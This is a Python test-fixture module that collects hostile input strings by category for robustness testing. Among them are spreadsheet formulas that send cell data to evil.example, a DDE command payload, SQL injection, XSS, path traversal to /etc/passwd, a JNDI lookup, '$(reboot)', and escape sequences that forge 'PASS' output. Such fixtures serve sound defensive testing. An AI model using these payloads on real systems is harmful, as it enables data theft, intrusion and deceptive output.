"""Texts that break who takes them for more than text, by what they attack."""

from __future__ import annotations

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+2+3",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "＝1+1",
    "'=1+1",
)
QUOTES = (
    '"',
    "'",
    "'' ; \"\"",
    'a","b',
    "a;b,c\td",
    '""""',
    "\\",
    '\\"',
)
BREAKS = ("a\nb", "a\r\nb", "a\rb", "a\u2028b", "a\u2029b", "a\x0bb", "a\x0cb", "a\x85b")
CONTROL = (
    "a\x00b",
    "\x1b[2J\x1b[31mPASS\x1b[0m",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mPASS",
    "FAIL\b\b\b\bPASS",
    "\x7f",
    "\x07",
)
UNSEEN = (
    "SN\u202e1000\u202c",
    "SN\u20661\u2069",
    "SN\u200b1",
    "SN\u200d1",
    "\ufeffSN1",
    "SN\xad1",
    "SN\u00a01",
    "SN1\U000e0041",
)
LONG = ("x" * 10_000, "é" * 10_000, "9" * 10_000)
SQL = (
    "'; DROP TABLE row; --",
    "' OR '1'='1",
    '" OR ""="',
    "1); DELETE FROM row; --",
    "%",
    "_",
    "SN*?[a-z]",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<!--",
    "]]>",
    "&lt;&amp;&#0;",
    "[bold red]PASS[/bold red]",
    "{{7*7}}",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "%2e%2e%2f",
    "CON",
    "-rf",
)
FORMATS = (
    "%s%n%x",
    "{0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "$(reboot)",
    "`reboot`",
    "%(x)s",
)
SURROGATES = ("\ud800", "SN\udcff1", "\udfff\ud800")
NUMBERS = ("NaN", "Infinity", "-0", "1e309", "0x1F", "1_000", "None", "null", "true", "١٢٣")
LOOKALIKES = ("😀", "👩‍👩‍👧", "ΡASS", "РASS", "ＳＮ１", "Å", "A\u030a", "ſ", "İ", "\U0001d54a")
SPACES = ("", " ", "  SN1  ", "SN  1")

HOSTILE: dict[str, tuple[str, ...]] = {
    "formulas": FORMULAS,
    "quotes": QUOTES,
    "breaks": BREAKS,
    "control": CONTROL,
    "unseen": UNSEEN,
    "long": LONG,
    "sql": SQL,
    "markup": MARKUP,
    "paths": PATHS,
    "formats": FORMATS,
    "surrogates": SURROGATES,
    "numbers": NUMBERS,
    "lookalikes": LOOKALIKES,
    "spaces": SPACES,
}
ALL = tuple(text for texts in HOSTILE.values() for text in texts)
